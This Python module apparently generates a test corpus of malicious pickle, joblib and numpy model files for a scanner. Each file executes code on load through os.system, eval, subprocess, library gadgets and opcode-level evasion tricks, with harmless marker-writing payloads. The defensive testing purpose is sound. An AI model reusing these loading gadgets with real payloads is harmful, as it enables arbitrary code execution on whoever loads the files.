"""Model files that would run something when loaded: each payload only writes a marker file."""

import builtins
import bz2
import code
import copyreg
import functools
import gzip
import importlib
import io
import lzma
import operator
import os
import pickle
import runpy
import subprocess
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import joblib
import numpy as np
from sklearn.feature_extraction.text import CountVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.preprocessing import FunctionTransformer

EXTENSION = 240


class Call:
    """Pickles as the call of a function with arguments."""

    def __init__(self, function, *arguments, state=None):
        self.parts = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self):
        return self.parts

    def __call__(self):
        """Nothing: the pickler asks that what is called looks callable."""


def text(word: str) -> bytes:
    """Return the opcode that pushes a word."""
    return b"\x8c" + bytes([len(word.encode())]) + word.encode()


def named(module: str, name: str) -> bytes:
    """Return the opcodes that push a global in protocol 4, however the name looks."""
    return text(module) + text(name) + b"\x93"


def stream(*parts: bytes) -> bytes:
    """Return a pickle of protocol 4 made of opcodes."""
    return b"\x80\x04" + b"".join(parts) + b"."


def called(callee: bytes, *arguments: bytes) -> bytes:
    """Return the opcodes of a call."""
    return callee + b"(" + b"".join(arguments) + b"tR"


def joblibbed(value: object) -> bytes:
    """Return what joblib writes."""
    file = io.BytesIO()
    joblib.dump(value, file)
    return file.getvalue()


def fitted(**extra: object) -> LogisticRegression:
    """Return a fitted model with more attributes."""
    model = LogisticRegression().fit([[0.0], [1.0]], [0, 1])
    model.__dict__.update(extra)
    return model


def calls(shell: str, python: str) -> Iterator[tuple[str, object]]:
    """Yield (name, object whose pickle runs the payload by a call)."""
    system = Call(os.system, shell)
    evaluate = vars(builtins)["eval"]
    yield "eval", Call(evaluate, python)
    yield "exec", Call(exec, python)
    yield "popen", Call(subprocess.Popen, ["sh", "-c", shell])
    yield "check_output", Call(subprocess.check_output, ["sh", "-c", shell])
    yield "partial called", Call(Call(functools.partial, os.system, shell))
    yield (
        "partial kept in a transformer",
        FunctionTransformer(Call(functools.partial, os.system, shell)),
    )
    module = Call(importlib.import_module, "os")
    yield "methodcaller", Call(Call(operator.methodcaller, "system", shell), module)
    yield "getattr", Call(Call(getattr, module, "system"), shell)
    yield "import", Call(Call(getattr, Call(builtins.__import__, "os"), "system"), shell)
    yield "nested loads", Call(pickle.loads, pickle.dumps(system))
    yield "run_code", Call(runpy._run_code, python, {})
    yield "interpreter", Call(Call(getattr, Call(code.InteractiveInterpreter), "runsource"), python)
    yield "map", Call(list, Call(map, evaluate, [python]))
    yield "inside an estimator", fitted(extra_=system)
    yield "tokenizer", CountVectorizer(tokenizer=Call(evaluate, python))
    yield "object array", np.array([system, None], dtype=object)
    yield "after a raw array", [np.arange(5.0), system]
    yield "as a key", {Call(os.system, shell): 1}
    yield "state setter", Call(list, (), state=system)


def opcodes(shell: str, python: str) -> Iterator[tuple[str, bytes]]:
    """Yield (name, pickle written opcode by opcode)."""
    word = text(shell)
    scaler = named("sklearn.preprocessing._data", "StandardScaler")
    attributes = text("fit") + named("posix", "system")
    yield "dotted, sklearn", stream(called(named("sklearn.datasets._base", "os.system"), word))
    yield "dotted, joblib", stream(called(named("joblib.disk", "os.system"), word))
    yield "dotted, numpy", stream(called(named("numpy", "f2py.crackfortran.myeval"), text(python)))
    yield "posix", stream(called(named("posix", "system"), word))
    yield "python 2 eval", b"c__builtin__\neval\n(S" + repr(python).encode() + b"\ntR."
    yield "python 2 commands", b"ccommands\ngetoutput\n(S" + repr(shell).encode() + b"\ntR."
    yield "inst", b"(S" + repr(shell).encode() + b"\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\nS" + repr(shell).encode() + b"\no."
    yield "f2py", stream(called(named("numpy.f2py.crackfortran", "myeval"), text(python)))
    yield (
        "numpy.testing",
        stream(called(named("numpy.testing._private.utils", "runstring"), text(python), b"}")),
    )
    yield (
        "ufunc",
        stream(
            called(
                called(named("numpy._core", "_ufunc_reconstruct"), text("os"), text("system")), word
            )
        ),
    )
    yield "build on a class", stream(scaler, b"}", attributes, b"sb")
    yield "build, then call", stream(scaler, b"N}", attributes, b"s\x86b0", called(scaler, word))
    yield "extension", stream(called(b"\x82" + bytes([EXTENSION]), word))
    yield "persistent id", stream(text("x"), b"Q")
    yield "buffer", b"\x80\x05\x97."
    yield (
        "computed name",
        stream(
            text("posix"),
            called(named("builtins", "str"), text("system")),
            b"\x93",
            b"(",
            word,
            b"tR",
        ),
    )
    yield "memo", stream(named("posix", "system"), b"\x940", b"h\x00(", word, b"tR")
    yield "popped", stream(called(named("posix", "system"), word), b"0N")
    yield "template of a distribution", distribution(python)
    yield "second stream", pickle.dumps(None) + pickle.dumps(Call(os.system, shell))
    yield (
        "setstate in the state",
        stream(
            scaler, b")\x81}", text("__setstate__"), named("posix", "system"), b"sb", word, b"b"
        ),
    )
    yield (
        "append in the state",
        stream(scaler, b")\x81}", text("append"), named("posix", "system"), b"sb", word, b"a"),
    )
    yield (
        "lying dtype",
        stream(
            called(named("numpy", "dtype"), text("O8"), b"\x89", b"\x88"),
            b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb",
        ),
    )


def distribution(python: str) -> bytes:
    """Return a scipy distribution whose state holds a template that scipy executes."""
    return stream(
        named("scipy.stats._continuous_distns", "norm_gen"),
        b")\x81}",
        text("_parse_arg_template") + text(python),
        b"sb",
    )


def corpus(folder: Path, marker: Callable[[str], Path]) -> Iterator[tuple[str, Path]]:
    """Write all files and yield (name, path); running one would make ``marker(name)``."""
    for name, data in files(folder, marker):
        path = folder / f"{name.replace(' ', '-').replace(',', '')}.pkl"
        path.write_bytes(data)
        yield name, path


def files(folder: Path, marker: Callable[[str], Path]) -> Iterator[tuple[str, bytes]]:
    """Yield (name, content)."""

    def payload(name: str) -> tuple[str, str]:
        return f"touch {marker(name)}", f"open({str(marker(name))!r}, 'w').close()"

    for protocol in range(6):
        name = f"system in protocol {protocol}"
        yield name, pickle.dumps(Call(os.system, payload(name)[0]), protocol)
    for name, _ in calls("", ""):
        found = dict(calls(*payload(name)))[name]
        yield name, pickle.dumps(found)
        if "array" in name or "estimator" in name:
            joined = f"{name} in joblib"
            yield joined, joblibbed(dict(calls(*payload(joined)))[name])
    for name, _ in opcodes("", ""):
        yield name, dict(opcodes(*payload(name)))[name]
    packers = {"gzip": gzip, "bz2": bz2, "xz": lzma, "zlib": zlib}
    for name, packer in packers.items():
        yield name, packer.compress(pickle.dumps(Call(os.system, payload(name)[0])))
    alone = lzma.compress(pickle.dumps(Call(os.system, payload("lzma")[0])), lzma.FORMAT_ALONE)
    yield "lzma", alone
    yield "truncated", pickle.dumps([Call(os.system, payload("truncated")[0])])[:-1]
    yield from indirect(folder, payload)


def indirect(
    folder: Path, payload: Callable[[str], tuple[str, str]]
) -> Iterator[tuple[str, bytes]]:
    """Yield files that make a loader read another file."""
    for name, function in (("joblib.load", joblib.load), ("numpy.load", np.load)):
        other = folder / f"{name}.other"
        other.write_bytes(pickle.dumps(Call(os.system, payload(name)[0])))
        extra = (None, True) if name == "numpy.load" else ()
        yield name, pickle.dumps(Call(function, str(other), *extra))
    old = folder / "old.npy"
    np.save(old, np.array([Call(os.system, payload("old joblib")[0])]), allow_pickle=True)
    wrapper = named("joblib.numpy_pickle_compat", "NDArrayWrapper")
    state = b"}(" + text("filename") + text(str(old)) + text("subclass") + named("numpy", "ndarray")
    yield "old joblib", stream(wrapper, b")\x81", state, b"ub")


def register_extension() -> None:
    """Make the extension code of the corpus mean ``os.system``, as a library might."""
    copyreg.add_extension("posix", "system", EXTENSION)
